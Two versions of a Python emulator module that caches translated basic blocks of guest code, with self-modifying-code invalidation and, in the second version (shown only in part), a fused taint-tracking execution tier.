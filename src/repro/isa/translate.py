"""Basic-block translation cache: the QEMU translated-block analog.

:class:`CPU.step_fast` already skips effect tracing, but it still pays
one Python call, one decode-cache probe, one fetch translation, and one
if/elif dispatch *per retired instruction*.  This module translates each
straight-line run of guest code -- ending at the first branch, syscall,
``HLT``, undecodable word, or page boundary -- **once**, into a
:class:`TranslatedBlock` of per-instruction specialized closures:

* the decode is resolved at translation time (no per-step cache probe);
* the ALU operation and operand register indices are bound into each
  closure (no opcode dispatch at execution time);
* page-local load/store fast paths are precomputed (one MMU translation
  per access, word-wide physical I/O when the access cannot span pages).

Executing a block is then one closure call per instruction plus a few
per-block bookkeeping operations, which is where the bulk of the
uninstrumented path's speedup comes from.

**Cache keying and invalidation.**  Blocks are cached per address space
(the MMU object), keyed by ``(physical page, page code-version)`` and
the virtual start pc.  The translator *watches* every physical page it
translates from (:meth:`PhysicalMemory.watch_code_page`); any write into
a watched page -- an instruction store, a kernel ``NtWriteVirtualMemory``
into a hollowed victim, a DMA-style device copy, or frame recycling --
bumps the page's code version, so the next lookup discards every block
decoded from the stale bytes.  Injected code is *freshly written memory*,
which makes this invalidation the threat model rather than an edge case:
each code-writing attack in the suite doubles as an invalidation test.

A store *inside* a block re-checks its own page's version immediately,
so a block that overwrites itself stops at the exact store that modified
it (reason ``"smc"``), with ``pc``/``instret`` pointing at the next
instruction -- precisely what the interpreter would have retired.

**Exactness contract.**  Block execution is budget-limited: the machine
passes the remaining slice quantum, and a block never retires more than
that, so quantum expiry, watchdog instruction budgets, and journaled
``FaultPlan`` instret triggers all fire at the same retirement count as
instruction-at-a-time execution.  Guest faults restore ``pc`` and
``instret`` to the faulting instruction before propagating.  See
``docs/block_translation.md``.

Blocks bind a specific CPU's register file and a specific MMU at
translation time; a :class:`BlockTranslator` therefore belongs to one
machine, and its cache is keyed by the MMU object so a block can only
ever run under the address space it was translated for.
"""

from __future__ import annotations

import weakref
from typing import Callable, Dict, List, Optional, Tuple

from repro.isa.cpu import CPU, AccessKind, cached_decode
from repro.isa.errors import DecodeError, GuestFault, InvalidInstruction
from repro.isa.instructions import (
    COND_BRANCH_OPS,
    INSTRUCTION_SIZE,
    Instruction,
    Op,
    signed32,
)
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE, PhysicalMemory
from repro.isa.registers import MASK32, Reg

_PAGE_MASK = PAGE_SIZE - 1
#: Highest page offset at which a 4-byte access cannot span pages.
_WORD_FAST_LIMIT = PAGE_SIZE - 4
#: Highest page offset at which a whole instruction fits in the page.
_FETCH_FAST_LIMIT = PAGE_SIZE - INSTRUCTION_SIZE

_SP = int(Reg.SP)
_LR = int(Reg.LR)
_SIGN_BIT = 0x80000000
_WRAP = 0x100000000

#: Opcodes that end a block with a control transfer.
_JUMP_OPS = frozenset(COND_BRANCH_OPS) | {Op.JMP, Op.JMPR, Op.CALL, Op.CALLR, Op.RET}

#: Max direct-jump successors remembered per block.
_CHAIN_LIMIT = 8


class TranslatedBlock:
    """One translated straight-line run of guest instructions.

    ``body`` holds one closure per non-terminating instruction; a store
    closure returns ``True`` so the executor knows to re-check the code
    version.  ``kind`` says how the block ends: ``"jump"`` (a control
    transfer, executed by the ``term`` closure), ``"syscall"``,
    ``"halt"``, or ``"fall"`` (page boundary / undecodable successor --
    execution continues at the next pc with a fresh lookup).
    """

    __slots__ = (
        "cpu",
        "start_pc",
        "start_paddr",
        "phys_page",
        "version",
        "body",
        "n_body",
        "kind",
        "term",
        "pure",
        "chain",
        "exec_count",
        "retired",
        "_code_version",
    )

    def __init__(
        self,
        cpu: CPU,
        start_pc: int,
        start_paddr: int,
        version: int,
        body: List[Callable[[], Optional[bool]]],
        kind: str,
        term: Optional[Callable[[], int]],
    ) -> None:
        self.cpu = cpu
        self.start_pc = start_pc
        self.start_paddr = start_paddr
        self.phys_page = start_paddr >> PAGE_SHIFT
        self.version = version
        self.body = body
        self.n_body = len(body)
        self.kind = kind
        self.term = term
        # A block with no memory operations can neither fault nor modify
        # code, so it runs on an unindexed loop when the budget allows.
        self.pure = not any(getattr(fn, "is_mem", False) for fn in body)
        self.chain: Dict[int, "TranslatedBlock"] = {}
        self.exec_count = 0
        self.retired = 0
        self._code_version = cpu.memory.code_version

    @property
    def n_insns(self) -> int:
        """Total instructions in the block, terminator included."""
        return self.n_body + (1 if self.kind != "fall" else 0)

    def execute(self, budget: int) -> str:
        """Run up to *budget* instructions of this block.

        Returns the reason execution stopped: the block ``kind`` when it
        ran to completion, ``"smc"`` if a store invalidated the block's
        own page, or ``"fall"`` on a budget cut or fall-through end.
        On return (or guest fault), ``cpu.pc`` and ``cpu.instret`` are
        exactly where instruction-at-a-time execution would have left
        them.
        """
        cpu = self.cpu
        n = self.n_body
        i = 0
        if self.pure and budget >= n:
            for fn in self.body:
                fn()
            i = n
        else:
            body = self.body
            limit = n if budget >= n else budget
            code_version = self._code_version
            page = self.phys_page
            version = self.version
            try:
                while i < limit:
                    if body[i]():
                        i += 1
                        if code_version(page) != version:
                            cpu.pc = (self.start_pc + i * INSTRUCTION_SIZE) & MASK32
                            cpu.instret += i
                            self.exec_count += 1
                            self.retired += i
                            return "smc"
                    else:
                        i += 1
            except GuestFault:
                # Precise fault: state points at the faulting instruction.
                cpu.pc = (self.start_pc + i * INSTRUCTION_SIZE) & MASK32
                cpu.instret += i
                self.exec_count += 1
                self.retired += i
                raise
        kind = self.kind
        if i == n and budget > n and kind != "fall":
            # Retire the terminator too.
            if kind == "jump":
                cpu.pc = self.term()
            else:
                cpu.pc = (self.start_pc + (n + 1) * INSTRUCTION_SIZE) & MASK32
                if kind == "halt":
                    cpu.halted = True
            cpu.instret += n + 1
            self.exec_count += 1
            self.retired += n + 1
            return kind
        cpu.pc = (self.start_pc + i * INSTRUCTION_SIZE) & MASK32
        cpu.instret += i
        self.exec_count += 1
        self.retired += i
        return "fall"


def _mem(fn: Callable) -> Callable:
    """Tag a closure as performing a data-memory access."""
    fn.is_mem = True
    return fn


def _compile_straight(insn: Instruction, cpu: CPU) -> Callable[[], Optional[bool]]:
    """Compile one non-terminating instruction into a closure.

    Registers, immediates, and the MMU/memory entry points are bound
    now; executing the closure performs only the instruction's work.
    Store closures return ``True`` (see :meth:`TranslatedBlock.execute`);
    everything else returns ``None``.
    """
    op = insn.op
    v = cpu.regs._values
    rd = int(insn.rd)
    rs1 = int(insn.rs1)
    rs2 = int(insn.rs2)
    imm = insn.imm & MASK32

    if op is Op.NOP:
        def nop() -> None:
            return None
        return nop
    if op is Op.MOV:
        def mov() -> None:
            v[rd] = v[rs1]
        return mov
    if op is Op.MOVI:
        def movi() -> None:
            v[rd] = imm
        return movi

    if op in (Op.LD, Op.LDB, Op.ST, Op.STB, Op.PUSH, Op.POP):
        disp = signed32(insn.imm)
        translate = cpu.mmu.translate
        memory = cpu.memory
        read_word = memory.read_word
        read_byte = memory.read_byte
        write_word = memory.write_word
        write_byte = memory.write_byte
        load_slow = cpu._load
        store_slow = cpu._store
        READ = AccessKind.READ
        WRITE = AccessKind.WRITE

        if op is Op.LD:
            @_mem
            def ld() -> None:
                vaddr = (v[rs1] + disp) & MASK32
                if (vaddr & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                    v[rd] = read_word(translate(vaddr, READ))
                else:
                    v[rd] = load_slow(vaddr, 4)[0]
            return ld
        if op is Op.LDB:
            @_mem
            def ldb() -> None:
                v[rd] = read_byte(translate((v[rs1] + disp) & MASK32, READ))
            return ldb
        if op is Op.ST:
            @_mem
            def st() -> bool:
                vaddr = (v[rs1] + disp) & MASK32
                if (vaddr & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                    write_word(translate(vaddr, WRITE), v[rs2])
                else:
                    store_slow(vaddr, 4, v[rs2])
                return True
            return st
        if op is Op.STB:
            @_mem
            def stb() -> bool:
                write_byte(translate((v[rs1] + disp) & MASK32, WRITE), v[rs2] & 0xFF)
                return True
            return stb
        if op is Op.PUSH:
            @_mem
            def push() -> bool:
                sp = (v[_SP] - 4) & MASK32
                if (sp & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                    write_word(translate(sp, WRITE), v[rs1])
                else:
                    store_slow(sp, 4, v[rs1])
                v[_SP] = sp
                return True
            return push
        # POP
        @_mem
        def pop() -> None:
            sp = v[_SP]
            if (sp & _PAGE_MASK) <= _WORD_FAST_LIMIT:
                v[rd] = read_word(translate(sp, READ))
            else:
                v[rd] = load_slow(sp, 4)[0]
            v[_SP] = (sp + 4) & MASK32
        return pop

    # Register-file values are invariantly masked to 32 bits (every write
    # below re-masks where the operation can overflow), so AND/OR/XOR/SHR
    # results need no extra masking.
    if op is Op.ADD:
        def add() -> None:
            v[rd] = (v[rs1] + v[rs2]) & MASK32
        return add
    if op is Op.SUB:
        def sub() -> None:
            v[rd] = (v[rs1] - v[rs2]) & MASK32
        return sub
    if op is Op.MUL:
        def mul() -> None:
            v[rd] = (v[rs1] * v[rs2]) & MASK32
        return mul
    if op is Op.AND:
        def and_() -> None:
            v[rd] = v[rs1] & v[rs2]
        return and_
    if op is Op.OR:
        def or_() -> None:
            v[rd] = v[rs1] | v[rs2]
        return or_
    if op is Op.XOR:
        def xor() -> None:
            v[rd] = v[rs1] ^ v[rs2]
        return xor
    if op is Op.SHL:
        def shl() -> None:
            v[rd] = (v[rs1] << (v[rs2] & 31)) & MASK32
        return shl
    if op is Op.SHR:
        def shr() -> None:
            v[rd] = v[rs1] >> (v[rs2] & 31)
        return shr

    if op is Op.ADDI:
        def addi() -> None:
            v[rd] = (v[rs1] + imm) & MASK32
        return addi
    if op is Op.SUBI:
        def subi() -> None:
            v[rd] = (v[rs1] - imm) & MASK32
        return subi
    if op is Op.MULI:
        def muli() -> None:
            v[rd] = (v[rs1] * imm) & MASK32
        return muli
    if op is Op.ANDI:
        def andi() -> None:
            v[rd] = v[rs1] & imm
        return andi
    if op is Op.ORI:
        def ori() -> None:
            v[rd] = v[rs1] | imm
        return ori
    if op is Op.XORI:
        def xori() -> None:
            v[rd] = v[rs1] ^ imm
        return xori
    if op is Op.SHLI:
        shift = imm & 31

        def shli() -> None:
            v[rd] = (v[rs1] << shift) & MASK32
        return shli
    if op is Op.SHRI:
        shift = imm & 31

        def shri() -> None:
            v[rd] = v[rs1] >> shift
        return shri
    if op is Op.NOT:
        def not_() -> None:
            v[rd] = (~v[rs1]) & MASK32
        return not_

    if op is Op.CMP:
        def cmp_() -> None:
            a = v[rs1]
            b = v[rs2]
            cpu.flag_z = a == b
            cpu.flag_n = (a - _WRAP if a & _SIGN_BIT else a) < (
                b - _WRAP if b & _SIGN_BIT else b
            )
        return cmp_
    if op is Op.CMPI:
        sb = signed32(insn.imm)

        def cmpi() -> None:
            a = v[rs1]
            cpu.flag_z = a == imm
            cpu.flag_n = (a - _WRAP if a & _SIGN_BIT else a) < sb
        return cmpi

    raise AssertionError(f"not a straight-line op: {op!r}")  # pragma: no cover


def _compile_term(insn: Instruction, cpu: CPU, fall_pc: int) -> Callable[[], int]:
    """Compile a control-transfer terminator into a next-pc closure."""
    op = insn.op
    v = cpu.regs._values
    rs1 = int(insn.rs1)
    target = insn.imm & MASK32

    if op is Op.JMP:
        return lambda: target
    if op is Op.JZ:
        return lambda: target if cpu.flag_z else fall_pc
    if op is Op.JNZ:
        return lambda: fall_pc if cpu.flag_z else target
    if op is Op.JLT:
        return lambda: target if cpu.flag_n else fall_pc
    if op is Op.JGE:
        return lambda: fall_pc if cpu.flag_n else target
    if op is Op.JLE:
        return lambda: target if (cpu.flag_z or cpu.flag_n) else fall_pc
    if op is Op.JGT:
        return lambda: fall_pc if (cpu.flag_z or cpu.flag_n) else target
    if op is Op.CALL:
        def call() -> int:
            v[_LR] = fall_pc
            return target
        return call
    if op is Op.CALLR:
        def callr() -> int:
            v[_LR] = fall_pc
            return v[rs1]
        return callr
    if op is Op.JMPR:
        return lambda: v[rs1]
    if op is Op.RET:
        return lambda: v[_LR]
    raise AssertionError(f"not a terminator op: {op!r}")  # pragma: no cover


class BlockTranslator:
    """Translates, caches, and dispatches basic blocks for one machine.

    The cache is a two-level map: address space (weakly referenced, so
    exited processes drop their blocks) -> physical page ->
    ``(code_version, {start_pc: block})``.  A version mismatch at lookup
    discards the whole page entry -- any write into the page may have
    rewritten any instruction in it.
    """

    def __init__(self, memory: PhysicalMemory) -> None:
        self._memory = memory
        self._caches: "weakref.WeakKeyDictionary" = weakref.WeakKeyDictionary()
        self.translations = 0
        self.executions = 0
        self.invalidations = 0
        self.chain_hits = 0
        self.lookups = 0
        self.single_steps = 0

    # -- cache management --------------------------------------------------------

    def lookup(self, cpu: CPU) -> Optional[TranslatedBlock]:
        """Return a valid block starting at ``cpu.pc``, translating on miss.

        Returns ``None`` when the pc sits so close to the page end that
        the instruction itself spans pages -- the caller single-steps.
        Propagates :class:`PageFault`/:class:`InvalidInstruction` for a
        non-executable pc or undecodable first instruction, with zero
        instructions retired (the precise-fault contract).
        """
        pc = cpu.pc
        paddr = cpu.mmu.translate(pc, AccessKind.FETCH)
        if (pc & _PAGE_MASK) > _FETCH_FAST_LIMIT:
            return None
        page = paddr >> PAGE_SHIFT
        memory = self._memory
        memory.watch_code_page(page)
        version = memory.code_version(page)
        per_as = self._caches.get(cpu.mmu)
        if per_as is None:
            per_as = {}
            self._caches[cpu.mmu] = per_as
        entry = per_as.get(page)
        if entry is not None and entry[0] != version:
            self.invalidations += 1
            entry = None
        if entry is None:
            entry = (version, {})
            per_as[page] = entry
        block = entry[1].get(pc)
        if block is None:
            block = self._translate(cpu, pc, paddr, page, version)
            entry[1][pc] = block
            self.translations += 1
        return block

    def _translate(
        self, cpu: CPU, start_pc: int, start_paddr: int, page: int, version: int
    ) -> TranslatedBlock:
        memory = self._memory
        page_base = page << PAGE_SHIFT
        raw = memory.read_bytes(page_base, PAGE_SIZE)
        off = start_paddr - page_base
        pc = start_pc
        body: List[Callable[[], Optional[bool]]] = []
        kind = "fall"
        term: Optional[Callable[[], int]] = None
        while off <= _FETCH_FAST_LIMIT:
            try:
                insn = cached_decode(raw[off : off + INSTRUCTION_SIZE])
            except DecodeError as exc:
                if not body:
                    raise InvalidInstruction(pc, str(exc)) from None
                # A later instruction is undecodable: stop the block here;
                # if execution actually falls onto it, the next lookup
                # raises the fault at the precise pc.
                break
            op = insn.op
            if op is Op.SYSCALL:
                kind = "syscall"
                break
            if op is Op.HLT:
                kind = "halt"
                break
            if op in _JUMP_OPS:
                kind = "jump"
                term = _compile_term(insn, cpu, (pc + INSTRUCTION_SIZE) & MASK32)
                break
            body.append(_compile_straight(insn, cpu))
            off += INSTRUCTION_SIZE
            pc = (pc + INSTRUCTION_SIZE) & MASK32
        return TranslatedBlock(cpu, start_pc, start_paddr, version, body, kind, term)

    # -- execution ---------------------------------------------------------------

    def run(self, cpu: CPU, budget: int) -> str:
        """Execute up to *budget* instructions starting at ``cpu.pc``.

        Chains through directly-reachable blocks until the budget runs
        out or execution hits a syscall, halt, self-modifying store, or
        an instruction that must be single-stepped.  Returns the final
        stop reason (``"syscall"``, ``"halt"``, ``"smc"``, ``"jump"``,
        or ``"fall"``); the retirement count is observable as the change
        in ``cpu.instret``.  Guest faults propagate with precise state.
        """
        self.lookups += 1
        block = self.lookup(cpu)
        if block is None:
            # Cross-page instruction: step_fast handles the split fetch.
            self.single_steps += 1
            fx = cpu.step_fast()
            if fx.syscall:
                return "syscall"
            if fx.halted:
                return "halt"
            return "fall"
        memory = self._memory
        mmu_translate = cpu.mmu.translate
        code_version = memory.code_version
        spent = 0
        while True:
            before = cpu.instret
            reason = block.execute(budget - spent)
            self.executions += 1
            spent += cpu.instret - before
            if spent >= budget or reason == "syscall" or reason == "halt" or reason == "smc":
                return reason
            pc = cpu.pc
            if reason == "jump":
                nxt = block.chain.get(pc)
                if (
                    nxt is not None
                    and nxt.version == code_version(nxt.phys_page)
                    and mmu_translate(pc, AccessKind.FETCH) == nxt.start_paddr
                ):
                    self.chain_hits += 1
                    block = nxt
                    continue
                self.lookups += 1
                nxt = self.lookup(cpu)
                if nxt is None:
                    return "fall"
                if len(block.chain) < _CHAIN_LIMIT:
                    block.chain[pc] = nxt
                block = nxt
                continue
            # reason == "fall" with budget remaining: page-boundary
            # fall-through -- continue at the next page.
            self.lookups += 1
            nxt = self.lookup(cpu)
            if nxt is None:
                return "fall"
            block = nxt

    # -- introspection -----------------------------------------------------------

    def cached_blocks(self) -> int:
        """Number of currently valid blocks across all live address spaces."""
        return sum(
            len(entry[1]) for per_as in self._caches.values() for entry in per_as.values()
        )

    def blocks(self) -> List[TranslatedBlock]:
        """All currently cached blocks (invalidated blocks drop their history)."""
        return [
            block
            for per_as in self._caches.values()
            for entry in per_as.values()
            for block in entry[1].values()
        ]

    def top_blocks(self, n: int = 10) -> List[Tuple[int, int, int]]:
        """The *n* hottest cached blocks as ``(start_pc, retired, executions)``.

        Deterministically ordered (retired desc, then start_pc).  Only
        *currently cached* blocks are reported: a block invalidated by a
        code write takes its counts with it, which is the right bias for
        a profiler aimed at steady-state hot code.
        """
        ranked = sorted(
            (b for b in self.blocks() if b.exec_count),
            key=lambda b: (-b.retired, b.start_pc),
        )
        return [(b.start_pc, b.retired, b.exec_count) for b in ranked[:n]]

    def stats(self) -> Dict[str, int]:
        """Counter snapshot (also exported as ``translate.*`` gauges)."""
        return {
            "translations": self.translations,
            "executions": self.executions,
            "invalidations": self.invalidations,
            "chain_hits": self.chain_hits,
            "lookups": self.lookups,
            "single_steps": self.single_steps,
            "cached_blocks": self.cached_blocks(),
        }
