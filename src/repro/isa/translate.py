"""Basic-block translation cache: the QEMU translated-block analog.

:class:`CPU.step_fast` already skips effect tracing, but it still pays
one Python call, one decode-cache probe, one fetch translation, and one
if/elif dispatch *per retired instruction*.  This module translates each
straight-line run of guest code -- ending at the first branch, syscall,
``HLT``, undecodable word, or page boundary -- **once**, into a
:class:`TranslatedBlock` of per-instruction specialized closures:

* the decode is resolved at translation time (no per-step cache probe);
* the ALU operation and operand register indices are bound into each
  closure (no opcode dispatch at execution time);
* page-local load/store fast paths are precomputed (one MMU translation
  per access, word-wide physical I/O when the access cannot span pages).

Executing a block is then one closure call per instruction plus a few
per-block bookkeeping operations, which is where the bulk of the
uninstrumented path's speedup comes from.

**Cache keying and invalidation.**  Blocks are cached per address space
(the MMU object), keyed by ``(physical page, page code-version)`` and
the virtual start pc.  The translator *watches* every physical page it
translates from (:meth:`PhysicalMemory.watch_code_page`); any write into
a watched page -- an instruction store, a kernel ``NtWriteVirtualMemory``
into a hollowed victim, a DMA-style device copy, or frame recycling --
bumps the page's code version, so the next lookup discards every block
decoded from the stale bytes.  Injected code is *freshly written memory*,
which makes this invalidation the threat model rather than an edge case:
each code-writing attack in the suite doubles as an invalidation test.

A store *inside* a block re-checks its own page's version immediately,
so a block that overwrites itself stops at the exact store that modified
it (reason ``"smc"``), with ``pc``/``instret`` pointing at the next
instruction -- precisely what the interpreter would have retired.

**Exactness contract.**  Block execution is budget-limited: the machine
passes the remaining slice quantum, and a block never retires more than
that, so quantum expiry, watchdog instruction budgets, and journaled
``FaultPlan`` instret triggers all fire at the same retirement count as
instruction-at-a-time execution.  Guest faults restore ``pc`` and
``instret`` to the faulting instruction before propagating.  See
``docs/block_translation.md``.

**The translated-tainted tier.**  Once taint exists, the machine used to
drop to the per-instruction interpreter.  :meth:`BlockTranslator.run_taint`
instead executes the same cached blocks through *fused taint closures*
(:func:`_compile_taint`): each closure does the instruction's
architectural work, then the tracker's all-clean gate (bank clean, no
pending control window, data footprint on clean shadow pages -- one
membership probe against the live dirty-page index), and only on a gate
miss the full Table I slow path, mirroring
:meth:`~repro.taint.tracker.TaintTracker.on_insn_exec` bit-for-bit.
Blocks whose own fetch *bytes* carry taint never run fused: that is
possibly-injected code, and those instructions single-step through the
instrumented interpreter so the per-byte fetch provenance scan and the
detection listeners see them exactly.  The cleanliness rule is
**byte-precise**: a block on a dirty 4 KiB shadow page still runs fused
when its own fetch range is clean (verdict cached per block against the
page's mutation epoch) -- attack-shaped layouts where code shares a
shadow page with planted tainted data stay on the fast tier.  A store
that writes taint into its own block's fetch range exits the block at
that precise instruction (reason ``"dirty"``; in practice the SMC check
claims it first).  When the whole shadow is clean and the thread holds
no taint, :meth:`TranslatedBlock.execute_taint` batches the data-side
probes per block by delegating to the plain closures outright.  See
``docs/taint_model.md`` for the three-tier dispatch picture.

Blocks bind a specific CPU's register file and a specific MMU at
translation time; a :class:`BlockTranslator` therefore belongs to one
machine, and its cache is keyed by the MMU object so a block can only
ever run under the address space it was translated for.
"""

from __future__ import annotations

import weakref
from typing import Callable, Dict, List, Optional, Tuple

from repro.isa.cpu import (
    CPU,
    AccessKind,
    InstructionEffects,
    MemoryAccess,
    cached_decode,
)
from repro.isa.errors import DecodeError, GuestFault, InvalidInstruction
from repro.isa.instructions import (
    COND_BRANCH_OPS,
    IMM_ALU_OPS,
    INSTRUCTION_SIZE,
    Instruction,
    Op,
    REG_ALU_OPS,
    signed32,
)
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE, PhysicalMemory
from repro.isa.registers import MASK32, NUM_REGS, Reg

_PAGE_MASK = PAGE_SIZE - 1
#: Highest page offset at which a 4-byte access cannot span pages.
_WORD_FAST_LIMIT = PAGE_SIZE - 4
#: Highest page offset at which a whole instruction fits in the page.
_FETCH_FAST_LIMIT = PAGE_SIZE - INSTRUCTION_SIZE

_SP = int(Reg.SP)
_LR = int(Reg.LR)
_SIGN_BIT = 0x80000000
_WRAP = 0x100000000

#: Opcodes that end a block with a control transfer.
_JUMP_OPS = frozenset(COND_BRANCH_OPS) | {Op.JMP, Op.JMPR, Op.CALL, Op.CALLR, Op.RET}

#: Max direct-jump successors remembered per block.
_CHAIN_LIMIT = 8

# --- lazily-imported taint runtime -------------------------------------------
#
# The translated-tainted tier fuses Table I propagation into block
# closures, which needs a few names from ``repro.taint``.  They cannot be
# imported at module level: ``repro.taint.tracker`` imports
# ``repro.emulator.plugins``, whose package ``__init__`` imports the
# machine, which imports *this* module -- a cycle whichever end loads
# first.  Taint compilation only ever happens once taint exists, so the
# names load on first use instead.

SHADOW_PAGE_SHIFT: Optional[int] = None
_EMPTY_PROV: Tuple = ()
_LoadObservation = None


def _load_taint_runtime() -> None:
    global SHADOW_PAGE_SHIFT, _EMPTY_PROV, _LoadObservation
    if SHADOW_PAGE_SHIFT is None:
        from repro.taint.provenance import EMPTY
        from repro.taint.shadow import SHADOW_PAGE_SHIFT as _SHIFT
        from repro.taint.tracker import LoadObservation

        SHADOW_PAGE_SHIFT = _SHIFT
        _EMPTY_PROV = EMPTY
        _LoadObservation = LoadObservation


class TranslatedBlock:
    """One translated straight-line run of guest instructions.

    ``body`` holds one closure per non-terminating instruction; a store
    closure returns ``True`` so the executor knows to re-check the code
    version.  ``kind`` says how the block ends: ``"jump"`` (a control
    transfer, executed by the ``term`` closure), ``"syscall"``,
    ``"halt"``, or ``"fall"`` (page boundary / undecodable successor --
    execution continues at the next pc with a fresh lookup).
    """

    __slots__ = (
        "cpu",
        "start_pc",
        "start_paddr",
        "phys_page",
        "version",
        "body",
        "n_body",
        "kind",
        "term",
        "pure",
        "chain",
        "exec_count",
        "retired",
        "_code_version",
        "insns",
        "term_insn",
        "taint_body",
        "taint_term",
        "fetch_shadow_page",
        "fetch_len",
        "fetch_epoch",
        "fetch_clean",
        "data_analyzed",
        "data_cacheable",
        "data_influence",
        "data_sig",
        "data_epoch",
        "data_pages",
    )

    def __init__(
        self,
        cpu: CPU,
        start_pc: int,
        start_paddr: int,
        version: int,
        body: List[Callable[[], Optional[bool]]],
        kind: str,
        term: Optional[Callable[[], int]],
        insns: Optional[List[Instruction]] = None,
        term_insn: Optional[Instruction] = None,
    ) -> None:
        self.cpu = cpu
        self.start_pc = start_pc
        self.start_paddr = start_paddr
        self.phys_page = start_paddr >> PAGE_SHIFT
        self.version = version
        self.body = body
        self.n_body = len(body)
        self.kind = kind
        self.term = term
        # A block with no memory operations can neither fault nor modify
        # code, so it runs on an unindexed loop when the budget allows.
        self.pure = not any(getattr(fn, "is_mem", False) for fn in body)
        self.chain: Dict[int, "TranslatedBlock"] = {}
        self.exec_count = 0
        self.retired = 0
        self._code_version = cpu.memory.code_version
        #: The decoded instructions behind ``body``/``term`` -- kept so
        #: the taint tier can compile its fused closures lazily.
        self.insns = insns
        self.term_insn = term_insn
        self.taint_body: Optional[List[Callable]] = None
        self.taint_term: Optional[Callable] = None
        #: The one shadow page holding this block's fetch footprint
        #: (a block never leaves its 256-byte MMU page, which can never
        #: straddle a 4 KiB shadow page).  Set by :meth:`ensure_taint`.
        self.fetch_shadow_page = -1
        #: Fetch-footprint length in bytes (``n_insns * INSTRUCTION_SIZE``,
        #: set by :meth:`ensure_taint`) -- the range whose *byte-precise*
        #: cleanliness gates fused taint execution.
        self.fetch_len = 0
        #: Cached byte-precise fetch-range verdict, valid while the fetch
        #: shadow page's epoch equals ``fetch_epoch`` (the flag-cache bit:
        #: re-probing a dirty page the block's bytes don't intersect costs
        #: one epoch compare instead of a range scan).
        self.fetch_epoch = -1
        self.fetch_clean = True
        #: Data-side write-set summary (see :meth:`_analyze_data`): the
        #: static address-influence verdict, and the cached shadow-page
        #: footprint keyed by (influence-register signature, MMU mapping
        #: epoch).  ``data_sig is None`` means "never evaluated" -- it
        #: can never equal a real signature tuple.
        self.data_analyzed = False
        self.data_cacheable = False
        self.data_influence: Tuple[int, ...] = ()
        self.data_sig: Optional[Tuple[int, ...]] = None
        self.data_epoch = -1
        self.data_pages: Optional[frozenset] = None

    @property
    def n_insns(self) -> int:
        """Total instructions in the block, terminator included."""
        return self.n_body + (1 if self.kind != "fall" else 0)

    def execute(self, budget: int) -> str:
        """Run up to *budget* instructions of this block.

        Returns the reason execution stopped: the block ``kind`` when it
        ran to completion, ``"smc"`` if a store invalidated the block's
        own page, or ``"fall"`` on a budget cut or fall-through end.
        On return (or guest fault), ``cpu.pc`` and ``cpu.instret`` are
        exactly where instruction-at-a-time execution would have left
        them.
        """
        cpu = self.cpu
        n = self.n_body
        i = 0
        if self.pure and budget >= n:
            for fn in self.body:
                fn()
            i = n
        else:
            body = self.body
            limit = n if budget >= n else budget
            code_version = self._code_version
            page = self.phys_page
            version = self.version
            try:
                while i < limit:
                    if body[i]():
                        i += 1
                        if code_version(page) != version:
                            cpu.pc = (self.start_pc + i * INSTRUCTION_SIZE) & MASK32
                            cpu.instret += i
                            self.exec_count += 1
                            self.retired += i
                            return "smc"
                    else:
                        i += 1
            except GuestFault:
                # Precise fault: state points at the faulting instruction.
                cpu.pc = (self.start_pc + i * INSTRUCTION_SIZE) & MASK32
                cpu.instret += i
                self.exec_count += 1
                self.retired += i
                raise
        kind = self.kind
        if i == n and budget > n and kind != "fall":
            # Retire the terminator too.
            if kind == "jump":
                cpu.pc = self.term()
            else:
                cpu.pc = (self.start_pc + (n + 1) * INSTRUCTION_SIZE) & MASK32
                if kind == "halt":
                    cpu.halted = True
            cpu.instret += n + 1
            self.exec_count += 1
            self.retired += n + 1
            return kind
        cpu.pc = (self.start_pc + i * INSTRUCTION_SIZE) & MASK32
        cpu.instret += i
        self.exec_count += 1
        self.retired += i
        return "fall"

    # -- the translated-tainted tier ---------------------------------------------

    def ensure_taint(self) -> None:
        """Compile the fused taint closures (once, on first tainted use).

        Taint compilation is deferred past plain translation: most blocks
        only ever run uninstrumented, and the taint runtime itself is a
        lazy import (see :func:`_load_taint_runtime`).
        """
        if self.taint_body is not None:
            return
        _load_taint_runtime()
        self.fetch_shadow_page = self.start_paddr >> SHADOW_PAGE_SHIFT
        self.fetch_len = self.n_insns * INSTRUCTION_SIZE
        fetch_end = self.start_paddr + self.fetch_len
        cpu = self.cpu
        taint_body: List[Callable] = []
        pc = self.start_pc
        paddr = self.start_paddr
        for insn in self.insns:
            taint_body.append(
                _compile_taint(insn, cpu, pc, paddr, self.start_paddr, fetch_end)
            )
            pc = (pc + INSTRUCTION_SIZE) & MASK32
            paddr += INSTRUCTION_SIZE
        self.taint_term = _compile_taint_term(self.term_insn)
        self.taint_body = taint_body

    def execute_taint(self, budget: int, ctx) -> str:
        """Run up to *budget* instructions with fused Table I propagation.

        The taint-tier twin of :meth:`execute`, with the same exactness
        contract (budget cuts, precise guest faults, ``"smc"`` stops)
        plus two taint-specific behaviours:

        * ``"dirty"`` -- a store in this block wrote taint into the
          block's own fetch *range*.  The store retired; the caller must
          leave the translated path so the next instruction's fetch
          provenance is scanned by the interpreter (the detection
          window).  (In practice the ``"smc"`` check preempts this --
          such a store also rewrote bytes of the block's watched code
          page -- so the ``"dirty"`` exit is defence in depth.)
        * A :class:`~repro.faults.errors.TaintBudgetExceeded` out of a
          slow arm propagates with *post*-instruction state -- the
          interpreter raises after the instruction retired, and the
          differential suite holds the two paths to the same tick.

        Caller contract: the block's fetch **range** is byte-precisely
        clean on entry (probed by :meth:`BlockTranslator.run_taint`
        through the per-page epoch cache), which is what lets every
        fused closure treat the fetched bytes as provenance-free --
        even when the surrounding 4 KiB shadow page carries taint.

        Stats contract: every retirement here is accounted on the
        tracker's counters with the same fast/slow split the interpreter
        would produce, flushed in bulk on every exit path.
        """
        if self.taint_body is None:
            self.ensure_taint()
        cpu = self.cpu
        n = self.n_body
        stats = ctx.stats
        bank = ctx.bank
        if (
            bank.tainted == 0
            and not bank.flags
            and ctx.tid not in ctx.pending
            and not ctx.dirty_pages
        ):
            # Whole-block batching: with a clean bank, no pending control
            # window and a *wholly clean shadow* there is nothing any
            # per-closure data probe could find -- every per-insn gate
            # passes, no propagation can change that mid-block (plain
            # stores cannot create taint), and the interpreter would
            # retire every instruction on the fast path.  Run the plain
            # closures (same SMC/fault/budget exactness) and account the
            # whole block as fast retirements in one step.
            before = cpu.instret
            try:
